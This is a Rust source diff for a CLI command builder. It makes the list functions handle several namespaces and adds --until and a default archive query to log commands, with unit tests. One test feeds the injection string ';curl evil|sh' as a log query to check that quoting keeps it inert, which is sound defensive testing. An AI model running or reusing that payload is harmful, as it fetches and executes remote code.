@@ -30,11 +30,22 @@ fn quoted(word: &str) -> String {
     shlex::try_quote(&word).map_or_else(|_| String::new(), Into::into)
 }
 
-pub fn list(namespace: Option<&str>) -> String {
-    match namespace {
-        Some(namespace) => line(Some(namespace), &["env", "list"]),
-        None => line(None, &["env", "list", "-A"]),
+/// Lists everywhere somebody may look: none where they may look nowhere, or in more places than anybody reads in a line.
+fn everywhere(places: &[Option<String>], [noun, verb]: [&str; 2]) -> Option<String> {
+    const FEW: usize = 8;
+    match places {
+        [] => None,
+        [None] => Some(line(None, &[noun, verb, "-A"])),
+        some if some.len() > FEW => None,
+        some => {
+            let each = some.iter().map(|place| line(place.as_deref(), &[noun, verb]));
+            Some(each.collect::<Vec<String>>().join("; "))
+        }
     }
+}
+
+pub fn list(places: &[Option<String>]) -> Option<String> {
+    everywhere(places, ["env", "list"])
 }
 
 pub fn show(namespace: &str, name: &str) -> String {
@@ -75,11 +86,8 @@ pub fn destroy(namespace: &str, name: &str, protected: bool) -> String {
     line(Some(namespace), &words)
 }
 
-pub fn copies(namespace: Option<&str>) -> String {
-    match namespace {
-        Some(namespace) => line(Some(namespace), &["data", "list"]),
-        None => line(None, &["data", "list", "-A"]),
-    }
+pub fn copies(places: &[Option<String>]) -> Option<String> {
+    everywhere(places, ["data", "list"])
 }
 
 pub fn nodes() -> String {
@@ -90,11 +98,8 @@ pub fn cluster_drift(file: &str) -> String {
     line(None, &["cluster", "drift", "-f", file])
 }
 
-pub fn hosts(namespace: Option<&str>) -> String {
-    match namespace {
-        Some(namespace) => line(Some(namespace), &["hostname", "list"]),
-        None => line(None, &["hostname", "list", "-A"]),
-    }
+pub fn hosts(places: &[Option<String>]) -> Option<String> {
+    everywhere(places, ["hostname", "list"])
 }
 
 pub fn copy(namespace: &str, name: &str) -> String {
@@ -181,20 +186,33 @@ pub fn steered(namespace: &str, word: &str, name: &str) -> String {
     line(Some(namespace), &["data", word, name])
 }
 
-pub fn logs(namespace: &str, name: &str, parts: &[String], since: &str, query: &str, follow: bool) -> String {
+/// `between`: since when, and until when if that is not now.
+pub fn logs(
+    namespace: &str,
+    name: &str,
+    parts: &[String],
+    between: (&str, Option<&str>),
+    query: &str,
+    follow: bool,
+) -> String {
     let mut words = vec!["logs", name];
     words.extend(parts.iter().map(String::as_str));
     words.extend(follow.then_some("-f"));
+    let (since, until) = between;
     words.extend(["--since", since]);
-    if !query.is_empty() {
-        words.extend(["--query", query]);
+    words.extend(until.iter().flat_map(|until| ["--until", until]));
+    match query {
+        // Without a query the archive is not searched.
+        "" if !follow => words.extend(["--query", "*"]),
+        "" => {}
+        query => words.extend(["--query", query]),
     }
     line(Some(namespace), &words)
 }
 
 /// The same of a time that has passed.
 pub fn logs_between(namespace: &str, name: &str, since: &str, until: &str, query: &str) -> String {
-    line(Some(namespace), &["logs", name, "--since", since, "--until", until, "--query", query])
+    logs(namespace, name, &[], (since, Some(until)), query, false)
 }
 
 /// The command that asks for the same change.
@@ -323,8 +341,22 @@ mod tests {
     use super::*;
 
     #[test]
+    fn what_is_searched_on_a_page_is_searched_in_the_archive_by_the_command_too() {
+        assert_eq!(
+            logs("shop", "qa", &[], ("1h", None), "", false),
+            "outboard -n shop logs qa --since 1h --query '*'"
+        );
+        assert_eq!(logs("shop", "qa", &[], ("1h", None), "", true), "outboard -n shop logs qa -f --since 1h");
+        let until = Some("2026-11-25T11:00:00Z");
+        assert_eq!(
+            logs("shop", "qa", &[], ("2026-11-25T10:00:00Z", until), "x", false),
+            "outboard -n shop logs qa --since 2026-11-25T10:00:00Z --until 2026-11-25T11:00:00Z --query x"
+        );
+    }
+
+    #[test]
     fn whatever_a_query_has_in_it_is_one_word() {
-        let line = logs("shop", "qa", &[], "15m", "\0;curl evil|sh\u{1b}[2J", false);
+        let line = logs("shop", "qa", &[], ("15m", None), "\0;curl evil|sh\u{1b}[2J", false);
         assert_eq!(line, "outboard -n shop logs qa --since 15m --query ';curl evil|sh[2J'");
     }
 
@@ -407,11 +439,24 @@ mod tests {
     #[test]
     fn what_a_shell_would_read_otherwise_is_quoted() {
         assert_eq!(
-            logs("shop", "qa", &["web".into()], "15m", "level:>=warn it's", true),
+            logs("shop", "qa", &["web".into()], ("15m", None), "level:>=warn it's", true),
             r#"outboard -n shop logs qa web -f --since 15m --query "level:>=warn it's""#
         );
-        assert_eq!(list(None), "outboard env list -A");
     }
+
+    #[test]
+    fn lists_are_of_where_somebody_may_look() {
+        let of =
+            |places: &[&str]| list(&places.iter().map(|place| Some((*place).to_owned())).collect::<Vec<_>>());
+        assert_eq!(list(&[None]).as_deref(), Some("outboard env list -A"));
+        assert_eq!(of(&["shop"]).as_deref(), Some("outboard -n shop env list"));
+        assert_eq!(
+            of(&["shop", "team"]).as_deref(),
+            Some("outboard -n shop env list; outboard -n team env list")
+        );
+        assert_eq!((of(&[]), of(&["a"; 9])), (None, None));
+    }
+
     #[test]
     fn several_environments_are_a_loop_in_each_namespace() {
         let place =
